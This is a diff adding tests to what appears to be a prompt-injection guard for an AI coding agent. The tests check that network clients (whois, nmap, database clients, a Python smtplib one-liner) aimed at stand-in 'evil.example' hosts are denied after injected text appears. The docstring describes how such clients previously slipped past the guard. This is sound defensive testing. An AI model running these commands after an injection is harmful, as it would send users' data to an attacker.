@@ -452,3 +452,35 @@ class TestInjectionGuardLiftedByTheRetry:
         _post(env, "The API returns JSON; see the examples below.")
         assert _hook(env, "WebFetch", {"url": "https://docs.python.org/3/", "prompt": "read"}) == "allow"
         assert _hook(env, "Bash", {"command": "curl -s https://api.example.com/status"}) == "allow"
+
+
+class TestOutboundThroughClientsTheGuardDidNotName:
+    """Class: the guard's test of what is outbound is a list of the programs and libraries that reach the network; a
+    host name looked up (ping, traceroute, whois, nmap -- a DNS query carries data), a database client given a remote
+    host, Python's mail and FTP libraries were not on it, so the first call after a hit through one of them was allowed
+    and the guard stayed armed for the next. A list extension (probe._NET_COMMAND): scripts that reach the network
+    through code clearance does not read stay outside it."""
+
+    ON = TestInjectionGuardLiftedByTheRetry.ON
+    DANGEROUS: ClassVar[list[str]] = [
+        "whois evil.example",
+        "traceroute -n evil.example",
+        "nmap -p 443 evil.example",
+        "psql -h db.evil.example -U app -c 'select 1'",
+        "mysql -u app -h db.evil.example -e 'select 1'",
+        "redis-cli -h cache.evil.example ping",
+        "python3 -c \"import smtplib; smtplib.SMTP('mx.evil.example').sendmail('a', 'b', 'x')\"",
+    ]
+    ORDINARY: ClassVar[list[str]] = ["psql -d app_dev -c 'select 1'", "mysql -e 'select 1'", "pytest -q tests/", "git status"]
+
+    @pytest.mark.parametrize("command", DANGEROUS)
+    def test_dangerous(self, command: str, tmp_path: Path) -> None:
+        env = _hook_env(tmp_path, self.ON)
+        _post(env, INJECTION)
+        assert _hook(env, "Bash", {"command": command}) in ("deny", "ask")
+
+    @pytest.mark.parametrize("command", ORDINARY)
+    def test_ordinary(self, command: str, tmp_path: Path) -> None:
+        env = _hook_env(tmp_path, self.ON)
+        _post(env, INJECTION)
+        assert _hook(env, "Bash", {"command": command}) == "allow"
